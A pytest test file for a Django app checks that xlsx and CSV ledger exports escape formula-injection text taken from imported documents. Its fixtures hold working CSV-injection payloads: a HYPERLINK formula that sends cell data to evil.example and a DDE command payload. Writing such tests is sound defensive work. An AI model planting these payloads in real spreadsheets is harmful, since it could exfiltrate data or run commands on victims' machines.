"""Text from an imported document never becomes a live formula in an export: a clause titled
=HYPERLINK(...) or a unit named =cmd|'...' is a plain string in the .xlsx and escaped with a
leading ' in the CSV (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from accounts.models import RoleGrant
from tests import factories as f

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
CMD = "=cmd|' /C calc'!A0"
DANGEROUS = [HYPERLINK, CMD, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def poisoned(db):
    document = f.DocumentFactory(doc_number="测政发〔2023〕5号")
    area = f.AreaFactory(document=document, number=1, title="扩大有效投资")
    lead, co = f.UnitFactory(name=CMD), f.UnitFactory(name="@SUM(A1:A9)")
    merged = f.TaskFactory(document=document, area=area, number=1, title=HYPERLINK)
    single = f.TaskFactory(document=document, area=area, number=2, title="-2+3+cmd|' /C calc'!A0")
    for task in (merged, single):
        f.TaskUnitFactory(task=task, unit=lead, role="lead", position=0)
        f.TaskUnitFactory(task=task, unit=co, role="co", position=1)
    f.MilestoneFactory(task=merged, text="+1+1", due_date=date(2023, 10, 31))
    f.MilestoneFactory(task=merged, text="\t=1+1", due_date=date(2023, 11, 30), position=1)
    f.MilestoneFactory(task=single, text="\r=1+1", due_date=date(2023, 12, 31))
    supervisor = f.UserFactory(username="formula_supervisor")
    f.RoleGrantFactory(user=supervisor, role=RoleGrant.Role.SUPERVISOR)
    return document, supervisor


def _download(client, poisoned, fmt: str) -> bytes:
    document, supervisor = poisoned
    client.force_login(supervisor)
    response = client.get(f"/api/v1/documents/{document.pk}/ledger.{fmt}?as_of=2023-11-15")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_xlsx_cells_that_look_like_formulas_are_strings(client, poisoned):
    workbook = openpyxl.load_workbook(io.BytesIO(_download(client, poisoned, "xlsx")))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # The writer stores a CR as the escape _x000D_ (as Excel does), which openpyxl leaves as it is.
    found = {cell.value.replace("_x000D_", "\r") for cell in cells}
    for text in DANGEROUS:
        assert text in found, text


def test_csv_cells_that_look_like_formulas_are_escaped(client, poisoned):
    text = _download(client, poisoned, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for dangerous in DANGEROUS:
        assert "'" + dangerous in cells, dangerous
    # Plain numbers and dates are left as they are.
    assert "2023-10-31" in cells
